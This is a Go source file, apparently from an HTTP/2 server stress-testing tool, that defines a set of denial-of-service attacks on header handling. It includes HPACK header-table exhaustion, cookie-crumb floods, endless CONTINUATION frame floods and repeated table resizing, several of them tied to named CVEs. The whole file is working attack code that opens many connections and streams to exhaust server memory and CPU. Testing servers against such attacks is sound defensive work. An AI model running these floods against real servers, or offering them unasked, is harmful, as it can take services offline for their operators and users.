package attacks

import (
	"fmt"
	"strings"

	"golang.org/x/net/http2"
)

// entry is about the largest entry that fits into the header table.
const entry = 4000

// names is a list of different field names for the field Trailer.
var names = func() string {
	var b strings.Builder
	for i := 0; b.Len() < entry-8; i++ {
		fmt.Fprintf(&b, "%s,", []byte{"abcdefghijklmnopqrstuvwxyz"[i%26], "abcdefghijklmnopqrstuvwxyz"[i/26%26], 'a' + byte(i/676)})
	}
	return strings.TrimSuffix(b.String(), ",")
}()

// headers are the attacks with heads that are short on the wire and large in memory, or that never end.
var headers = []Attack{
	{Name: "header table: one long field, many requests", CVE: "CVE-2016-6581", Run: func(a *Attacker) {
		a.heads(4, "x", strings.Repeat("v", entry))
	}},
	{Name: "header table: many references to one long field", CVE: "CVE-2016-6581", Run: func(a *Attacker) {
		pairs := []string{}
		for range 200 {
			pairs = append(pairs, "x", strings.Repeat("v", entry))
		}
		a.heads(4, pairs...)
	}},
	{Name: "header table: many references to a short field", CVE: "CVE-2023-45288", Run: func(a *Attacker) {
		pairs := []string{}
		for range 4000 {
			pairs = append(pairs, "x", "")
		}
		a.heads(2, pairs...)
	}},
	{Name: "crumbs of a cookie", CVE: "CVE-2019-9516", Run: func(a *Attacker) {
		pairs := []string{}
		for range 4000 {
			pairs = append(pairs, "cookie", "")
		}
		a.heads(2, pairs...)
	}},
	{Name: "many different fields", Run: func(a *Attacker) {
		pairs := []string{}
		for i := range 1000 {
			pairs = append(pairs, fmt.Sprintf("x%d", i), "")
		}
		a.heads(2, pairs...)
	}},
	{Name: "announced trailers", Run: func(a *Attacker) { a.heads(manyConns, "trailer", names) }},
	{Name: "trailers that were announced", Run: func(a *Attacker) {
		for range 4 {
			c := a.open(Opening{})
			for i := 0; c != nil && i < manyStreams; i++ {
				c.head(stream(i), false, pathWait, "trailer", "x")
				pairs := []string{}
				for range 200 {
					pairs = append(pairs, "x", strings.Repeat("v", 3000))
				}
				c.trailers(stream(i), pairs...)
			}
			if c != nil {
				c.settle()
			}
		}
	}},
	{Name: "heads without an end", CVE: "CVE-2024-27316", Run: func(a *Attacker) {
		a.spread(4, manyFrames/4, Opening{}, func(c *Conn, i int) {
			part := c.encode(pathAnonymous, fmt.Sprint("x", i), strings.Repeat("v", 1000))
			if i == 0 {
				c.raw(http2.FrameHeaders, 0, stream(0), part)
			} else {
				c.raw(http2.FrameContinuation, 0, stream(0), part)
			}
		})
	}},
	{Name: "heads continued by nothing", CVE: "CVE-2024-27316", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) {
			if i == 0 {
				c.raw(http2.FrameHeaders, 0, stream(0), c.encode(pathAnonymous))
			} else {
				c.raw(http2.FrameContinuation, 0, stream(0), nil)
			}
		})
	}},
	{Name: "header table resized again and again", Run: func(a *Attacker) {
		// 0x3f 0xe1 0x1f sets the table to 4096 bytes, 0x20 to 0.
		sizes := []byte("\x20\x3f\xe1\x1f")
		a.spread(2, manyFrames, Opening{}, func(c *Conn, i int) {
			block := append(append([]byte(nil), sizes...), 0x83, 0x87, 0x84)
			c.raw(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, stream(i), block)
			_ = c.WriteRSTStream(stream(i), http2.ErrCodeCancel)
		})
	}},
	{Name: "heads that are too long", Run: func(a *Attacker) {
		pairs := []string{}
		for range 300 {
			pairs = append(pairs, "x", strings.Repeat("v", entry))
		}
		a.spread(2, 300, Opening{}, func(c *Conn, i int) { c.head(stream(i), true, pathAnonymous, pairs...) })
	}},
}

// heads opens as many streams as allowed. Their fields are short references to the header table, and their handlers do
// not end.
func (a *Attacker) heads(conns int, pairs ...string) {
	for range conns {
		c := a.open(Opening{})
		for i := 0; c != nil && i < manyStreams; i++ {
			c.head(stream(i), true, pathWait, pairs...)
		}
		if c != nil {
			c.settle()
		}
	}
}
